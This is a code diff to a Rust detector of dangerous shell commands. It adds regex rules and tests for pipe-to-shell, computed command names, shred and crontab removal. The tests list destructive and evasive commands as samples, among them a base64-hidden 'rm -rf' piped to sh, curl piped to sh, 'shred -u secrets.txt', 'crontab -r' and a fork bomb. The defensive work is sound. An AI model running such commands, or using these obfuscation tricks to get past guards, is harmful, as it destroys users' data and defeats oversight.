@@ -184,6 +184,28 @@ static RULE_DEFS: &[RuleDef] = &[
         pattern: r"(?:(?:\b(?:ba|z|da|k)?sh|\bsource|(?:^|[;&|]\s*)\.)\s+<\(\s*(?:curl|wget)\b|\beval\b[^;&|]*\$\(\s*(?:curl|wget)\b)",
     },
     RuleDef {
+        key: "pipe_to_shell",
+        description: "shell runs piped text",
+        // `echo … | base64 -d | sh`: whatever the pipe carries runs, unseen by these rules.
+        pattern: r"\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+)?(?:/[\w/]*/)?(?:(?:ba|z|da|k|fi)?sh|python[\d.]*|perl|ruby|node)\s*(?:-\s*)?(?:-s\s*)?(?:$|[;&|)])",
+    },
+    RuleDef {
+        key: "dynamic_command",
+        description: "command name computed at run time",
+        // `x=rm; $x -rf dir`, `$(echo rm) -rf dir`: what runs cannot be read from the text.
+        pattern: r#"(?:^|[;&|({]|\$\(|`|\b(?:then|do|else|eval|exec|sudo|command|env|nohup|xargs|time)\b)\s*['"]?(?:\$[({a-z_]|`)"#,
+    },
+    RuleDef {
+        key: "shred",
+        description: "destroy file contents",
+        pattern: r"<cmd>shred(?:\s|$)",
+    },
+    RuleDef {
+        key: "crontab_remove",
+        description: "remove all cron jobs",
+        pattern: r"<cmd>crontab\s+(?:\S+\s+)*?-[a-z]*r(?:\s|$|[;&|)])",
+    },
+    RuleDef {
         key: "xargs_rm",
         description: BULK,
         pattern: r"\bxargs\b[^;&|]*\brm(?:\s|$)",
@@ -465,6 +487,22 @@ mod tests {
         // pkill_force
         ("pkill -9 python", "pkill_force"),
         ("killall -KILL node", "pkill_force"),
+        // pipe_to_shell
+        ("echo cm0gLXJmIHg= | base64 -d | sh", "pipe_to_shell"),
+        ("cat script.txt | sudo bash", "pipe_to_shell"),
+        ("gunzip -c x.gz | python3 -", "pipe_to_shell"),
+        ("printf 'make clean' | /bin/bash -s", "pipe_to_shell"),
+        // dynamic_command
+        ("x=rm; $x -rf dir", "dynamic_command"),
+        ("$(echo rm) -rf dir", "dynamic_command"),
+        ("`echo rm` -rf dir", "dynamic_command"),
+        ("cd dir && \"$TOOL\" --wipe", "dynamic_command"),
+        ("eval \"$(printf 'make clean')\"", "dynamic_command"),
+        ("sudo ${CMD} x", "dynamic_command"),
+        // shred, crontab_remove
+        ("shred -u secrets.txt", "shred"),
+        ("crontab -r", "crontab_remove"),
+        ("crontab -u bob -r", "crontab_remove"),
         // fork_bomb
         (":(){ :|:& };:", "fork_bomb"),
         (": () { : | : & } ; :", "fork_bomb"),
@@ -567,6 +605,14 @@ mod tests {
         "sudo apt install ripgrep",
         "env FOO=1 cargo build",
         "cd build\nmake -j4",
+        "curl -s https://x/api | python3 -m json.tool",
+        "cat log | shasum",
+        "echo \"$HOME\" && ls \"$dir\"",
+        "x=$(date) && echo $x",
+        "cd \"$(git rev-parse --show-toplevel)\"",
+        "for f in *.rs; do wc -l \"$f\"; done",
+        "crontab -l",
+        "echo $((1 + 2))",
     ];
 
     #[test]
@@ -750,7 +796,7 @@ mod tests {
         );
         assert_eq!(
             keys("rm -rf dist; curl https://x | sh"),
-            ["recursive_delete", "curl_pipe_shell"]
+            ["recursive_delete", "curl_pipe_shell", "pipe_to_shell"]
         );
         // A hardline key rides along with the regular rule that also matched.
         assert_eq!(
